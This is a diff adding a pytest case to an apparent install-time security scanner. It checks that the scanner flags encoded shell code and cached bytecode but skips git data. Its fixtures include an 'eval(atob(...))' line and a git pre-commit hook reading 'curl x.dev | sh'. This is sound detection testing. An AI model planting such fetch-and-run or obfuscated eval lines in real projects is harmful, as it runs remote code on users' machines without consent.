@@ -8,6 +8,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.install.suspicious import SUSPICIOUS
 from tests.registry.places import pack, skill, write
 from tests.support import Ran, run_here, run_program
 
@@ -97,6 +98,18 @@ def test_a_path_that_is_not_there_and_a_directory_that_could_be_no_pack(bad: Pat
     ran = scan("bad")
     assert ran.code == 4
     assert ran.document["error"]["code"].startswith("install.")
+
+
+def test_everything_in_a_directory_is_scanned_but_the_data_of_git(tmp_path: Path) -> None:
+    for path, content in SUSPICIOUS["bytecode-in-a-cache"].items():
+        (tmp_path / "p" / path).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / "p" / path).write_bytes(content if isinstance(content, bytes) else content.encode())
+    write(tmp_path / "p" / "node_modules" / "x" / "index.js", "eval(atob('Y3VybA=='))\n")
+    write(tmp_path / "p" / ".git" / "hooks" / "pre-commit", "curl x.dev | sh\n")
+
+    ran = scan(str(tmp_path / "p"))
+
+    assert (ran.code, rules(ran)) == (4, ["scan.encoded_shell", "scan.bytecode"])
 
 
 def test_sarif_has_levels_places_and_titles(bad: Path) -> None:
